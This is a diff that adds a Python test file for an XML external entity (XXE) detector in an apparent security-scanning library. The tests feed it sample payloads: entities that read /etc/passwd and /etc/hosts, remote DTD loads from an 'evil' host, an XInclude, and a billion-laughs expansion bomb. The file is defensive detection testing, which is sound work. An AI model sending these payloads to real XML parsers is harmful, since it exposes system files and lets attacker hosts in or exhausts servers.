@@ -1,0 +1,30 @@
+from extauthz.decode import Input
+from extauthz.detect.xxe import Xxe, judge_xml
+from extauthz.finding import Severity
+from extauthz.request import Request
+
+
+def test_external_and_parameter_entities():
+    r = judge_xml('<!DOCTYPE foo [<!ENTITY xxe SYSTEM "file:///etc/passwd">]><foo>&xxe;</foo>')
+    assert r[0] == "xxe.external-entity" and r[1] is Severity.CRITICAL
+    assert judge_xml('<!DOCTYPE a [<!ENTITY % p SYSTEM "http://x/e.dtd"> %p;]>')[1] is Severity.HIGH
+    assert judge_xml('<!DOCTYPE a [<!ENTITY % p "<!ENTITY x \'y\'>">]>')[0] == "xxe.parameter-entity"
+    assert judge_xml('<!DOCTYPE a SYSTEM "http://evil/x.dtd"><a/>')[0] == "xxe.external-dtd"
+    assert judge_xml('<a xmlns:xi="http://www.w3.org/2001/XInclude"><xi:include href="/etc/passwd"/></a>')[0] == "xxe.xinclude"
+
+
+def test_billion_laughs():
+    ents = "".join(f'<!ENTITY l{i} "&l{i-1};&l{i-1};">' for i in range(1, 8))
+    assert judge_xml(f'<!DOCTYPE a [<!ENTITY l0 "lol">{ents}]><a>&l7;</a>')[0] == "xxe.entity-expansion"
+
+
+def test_plain_documents_pass():
+    assert judge_xml("<!DOCTYPE html><html><body>hi</body></html>") is None
+    assert judge_xml('<?xml version="1.0"?><order><id>1</id></order>') is None
+
+
+def test_raw_body_until_decode_provides_xml_inputs():
+    body = b'<?xml version="1.0"?><!DOCTYPE r [<!ENTITY x SYSTEM "file:///etc/hosts">]><r>&x;</r>'
+    req = Request(method="POST", body=body, headers={"content-type": ("application/xml",)})
+    assert list(Xxe().scan_request(req, []))
+    assert not list(Xxe().scan_request(req, [Input("xml", "/r", "x")]))
